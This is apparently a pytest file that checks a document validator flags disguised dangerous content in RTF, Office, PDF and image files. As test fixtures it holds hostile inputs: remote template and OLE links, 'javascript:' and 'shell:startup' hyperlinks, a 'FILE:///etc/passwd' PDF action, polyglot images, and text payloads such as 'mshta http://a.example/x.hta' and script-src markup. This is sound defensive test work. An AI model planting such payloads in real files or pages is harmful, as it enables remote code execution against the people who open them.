"""Tricks that hide what a document does: other spellings, other containers, links where files are expected."""

import struct
from pathlib import Path

import pytest

from tests.hostile.pdfs import pdf
from tests.unit.validator import samples
from tests.unit.validator.test_dangerous_content import OTHER_OBJECT, PACKAGE_OBJECT, judged, relation, sheet, word

ADDRESS = b"http://a.example/x.dotm"
URL_MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
LINK = samples.ole({"\x01Ole": bytes(20) + URL_MONIKER + "http://a.example/x".encode("utf-16-le")})


def rtf(body: bytes) -> bytes:
    return b"{\\rtf1 words " + body + b"}"


def digits(name: bytes, data: bytes, kind: int = 2) -> bytes:
    head = struct.pack("<III", 0x501, kind, len(name) + 1) + name + bytes(9) + struct.pack("<I", len(data))
    return (head + data).hex().encode()


def embedded(group: bytes) -> bytes:
    return rtf(b"{\\object\\objemb{\\*\\objdata " + group + b"}}")


PACKED = digits(b"Word.Document.8", PACKAGE_OBJECT)
AS_NUMBERS = b"".join(b"\\u%d?" % letter for letter in ADDRESS)
AS_NEGATIVES = b"".join(b"\\u%d?" % (letter - 0x10000) for letter in ADDRESS)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (embedded(PACKED[:80] + b"{\\*\\a b}" + PACKED[80:]), "ole-package"),
        (embedded(PACKED[:80] + b"\\bin1 }" + PACKED[80:]), "ole-package"),
        (embedded(PACKED[:64] + b"\\bin9000 " + bytes.fromhex(PACKED[64:].decode())), "ole-package"),
        (rtf(b"{\\object\\objemb{\\bin1 \\\\objdata " + PACKED + b"}}"), "ole-package"),
        (embedded(digits(b"Word.Document.8", OTHER_OBJECT)), "ole-package"),
        (embedded(digits(b"Word.Document.8", LINK)), "remote-code"),
        (embedded(digits(b"Word.Document.8", b"http://a.example/x", kind=1)), "remote-code"),
        (rtf(b"{\\*\\template " + AS_NUMBERS + b"}"), "remote-code"),
        (rtf(b"{\\*\\template " + AS_NEGATIVES + b"}"), "remote-code"),
        (rtf(b"{\\*\\template{" + ADDRESS + b"}}"), "remote-code"),
        (rtf(b"{\\*\\template {\\b ht\r\ntp}{://a.example/x.dotm}}"), "remote-code"),
        (rtf(b'{\\field{\\*\\fldinst HYPERLINK "javascript:a()"}}'), "remote-code"),
        (rtf(b'{\\field{\\*\\fldinst HYPERLINK "search-ms:query=a&crumb=location:b"}}'), "remote-code"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_is_disguised_in_rich_text_is_found(data: bytes, code: str, tmp_path: Path) -> None:
    assert code in judged(tmp_path, "rtf", data)


@pytest.mark.parametrize(
    ("data", "codes"),
    [
        (rtf(b"{\\*\\template C:\\\\Normal.dotm}"), {"remote-reference"}),
        (embedded(digits(b"MSGraph.Chart.8", samples.ole({"Workbook": b"x"}))), {"embedded-object"}),
        (rtf(b"{\\pict\\pngblip\\bin9 {{}\\objda}{\\field{\\*\\fldinst PAGE}}"), set()),
        (rtf(b'{\\field{\\*\\fldinst HYPERLINK "https://a.example/data:x"}}'), set()),
    ],
    ids=["template", "chart", "picture", "link"],
)
def test_what_programs_write_into_rich_text_is_not_refused(data: bytes, codes: set[str], tmp_path: Path) -> None:
    assert judged(tmp_path, "rtf", data) == codes


def test_an_object_that_is_fetched_from_an_address_is_found_in_every_container(tmp_path: Path) -> None:
    assert "remote-code" in judged(tmp_path, "docx", word("word/embeddings/oleObject1.bin", LINK))
    body = struct.pack("<HHI", 0, 0x1011, len(LINK)) + LINK
    assert "remote-code" in judged(tmp_path, "ppt", samples.powerpoint(body=body))


def doc_with_template(template: str) -> bytes:
    """[MS-DOC] 2.9.277: the associated strings lie in the table stream, the template is the second."""
    strings = struct.pack("<HHHHH", 0xFFFF, 18, 0, 0, len(template)) + template.encode("utf-16-le") + bytes(32)
    head = struct.pack("<HHHHHH", 0xA5EC, 0xC1, 0, 0x0409, 0, 0x0200).ljust(0x019A, b"\0")
    head += struct.pack("<II", 16, len(strings))
    return samples.ole({"WordDocument": head.ljust(2048, b"\0"), "1Table": bytes(16) + strings})


def large_workbook(book: bytes) -> bytes:
    """An OLE container with sectors of 4,096 bytes, which holds one stream of up to 4 MB."""
    count = -(-len(book) // 4096)
    chain = [*range(3, count + 2), 0xFFFFFFFE]
    fat = struct.pack(f"<{count + 2}I", 0xFFFFFFFD, 0xFFFFFFFE, *chain).ljust(4096, b"\xff")
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH6x", 0x3E, 4, 0xFFFE, 12, 6)
    head += struct.pack("<IIIIIIIII", 1, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + bytes(4) + b"\xff" * 432
    directory = _entry("Root Entry", 5, child=1, start=0xFFFFFFFE) + _entry("Workbook", 2, start=2, size=len(book))
    return head.ljust(4096, b"\0") + fat + directory.ljust(4096, b"\0") + book.ljust(count * 4096, b"\0")


def _entry(name: str, kind: int, *, start: int, child: int = 0xFFFFFFFF, size: int = 0) -> bytes:
    encoded = name.encode("utf-16-le") + b"\0\0"
    free = 0xFFFFFFFF
    return struct.pack("<64sHBBIII36xIQ", encoded, len(encoded), kind, 1, free, free, child, start, size)


@pytest.mark.parametrize(("fillers", "code"), [(10, "macros"), (300_000, "damaged")])
def test_a_macro_sheet_behind_many_records_does_not_pass(fillers: int, code: str, tmp_path: Path) -> None:
    start = samples.record(0x809, struct.pack("<HHHHII", 0x600, 5, 0, 1997, 0, 0))
    sheet_of_macros = samples.record(0x85, struct.pack("<IBB", 0x100, 2, 1) + b"\x01\0m")
    book = start + samples.record(0xF00, b"") * fillers + sheet_of_macros + samples.record(0x0A, b"")
    assert code in judged(tmp_path, "xls", large_workbook(book.ljust(8192, b"\0")))


def slides_that(action: int) -> bytes:
    """[MS-PPT] 2.6.10: what a click does."""
    atom = struct.pack("<HHIIIB7x", 0, 0x0FF3, 16, 0, 1, action)
    return samples.powerpoint(body=struct.pack("<HHI", 0xF, 0x0FF2, len(atom)) + atom)


@pytest.mark.parametrize(
    ("extension", "data", "codes"),
    [
        ("doc", doc_with_template("http://a.example/x.dotm"), {"remote-code"}),
        ("doc", doc_with_template("C:\\Templates\\Normal.dotm"), set()),
        ("doc", samples.word(text='\x13 HYPERLINK "javascript:a()" \x14a\x15'), {"remote-code"}),
        ("doc", samples.word(text='\x13 HYPERLINK "shell:startup" \x14a\x15'), {"remote-code"}),
        ("doc", samples.word(text='\x13 HYPERLINK "https://a.example" \x14a\x15'), set()),
        ("doc", samples.word(text='\x13 INCLUDETEXT "http://a.example/a" \x14a\x15'), {"remote-reference"}),
        ("xlsx", sheet("xl/_rels/workbook.xml.rels", relation("xlMacrosheet", "a/s.xml", "Internal")), {"macros"}),
        ("ppt", slides_that(2), {"remote-code"}),
        ("ppt", slides_that(4), set()),
        ("docx", word("word/_rels/document.xml.rels", relation("aFChunk", "a.mht", "Internal")), {"ole-package"}),
        ("docx", word("word/_rels/document.xml.rels", relation("aFChunk", "http://a.example/a")), {"remote-code"}),
        ("docx", word("word/_rels/document.xml.rels", relation("control", "a.xml", "Internal")), {"embedded-object"}),
        (
            "xlsx",
            sheet("xl/connections.xml", b'<c><connection><webPr url="x"/></connection></c>'),
            {"remote-reference"},
        ),
        ("xlsx", sheet("xl/connections.xml", b"<c><connection><dbPr/></connection></c>"), {"remote-reference"}),
        ("pdf", pdf({4: b"<</Type/3D/Subtype/U3D/OnInstantiate 3 0 R>>"}), {"pdf-javascript"}),
        ("pdf", pdf({4: b"<</S/URI/URI(search-ms:query=a)>>"}), {"pdf-action"}),
        ("pdf", pdf({4: b"<</S/URI/URI(FILE:///etc/passwd)>>"}), {"pdf-action"}),
        ("pdf", pdf({4: b"<</S/SubmitForm/F(https://a.example)>>"}), {"pdf-action"}),
        ("pdf", pdf({4: b"<</S/URI/URI(https://a.example/data:x)>>"}), set()),
    ],
)
def test_what_a_document_fetches_or_starts_is_found(
    extension: str, data: bytes, codes: set[str], tmp_path: Path
) -> None:
    assert judged(tmp_path, extension, data) == codes


@pytest.mark.parametrize(
    "text",
    [
        "<details open ontoggle=a()>",
        "<script/src=//a.example>",
        '<meta http-equiv="refresh" content="0;url=//a.example">',
        "mshta http://a.example/x.hta",
        'GetObject("script:http://a.example/x")',
        "+ADw-script+AD4-",
    ],
)
def test_less_common_ways_of_a_text_to_act_are_found(text: str, tmp_path: Path) -> None:
    assert "markup-in-text" in judged(tmp_path, "txt", b"Some words.\n" + text.encode() + b"\nMore words.\n")


def test_words_of_a_text_that_only_look_like_an_event_are_nothing(tmp_path: Path) -> None:
    assert not judged(tmp_path, "txt", b"If x <y and online = 3, then we went on end = 4. The onset = 2.\n")


def test_a_picture_that_a_reader_of_pdf_opens_is_refused(tmp_path: Path) -> None:
    picture = samples.content("jpg")
    comment = pdf()[:500]
    both = picture[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + picture[2:]
    assert "foreign-data" in judged(tmp_path, "jpg", both)


def test_an_application_of_markup_behind_a_picture_is_refused(tmp_path: Path) -> None:
    assert "foreign-data" in judged(tmp_path, "png", samples.content("png") + b"<HTA:APPLICATION id=a>")
